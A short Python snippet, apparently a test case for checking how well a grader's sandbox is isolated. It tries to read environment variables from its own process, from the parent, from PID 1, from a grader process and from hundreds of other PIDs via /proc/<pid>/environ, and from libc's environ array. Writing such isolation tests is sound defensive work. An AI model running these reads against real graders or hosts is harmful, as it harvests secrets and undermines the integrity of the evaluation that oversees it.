"""Looks for the grader's environment, in its own and in that of every process it knows of.

Expect: 127/127
"""

steal(lambda: dict(os.environ))
for process in ("self", "thread-self", 1, os.getppid(), GRADER, *range(2, 400)):
    steal(read, f"/proc/{process}/environ")
environment = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
for number in range(64):
    if environment[number] is None:
        break
    steal(environment.__getitem__, number)
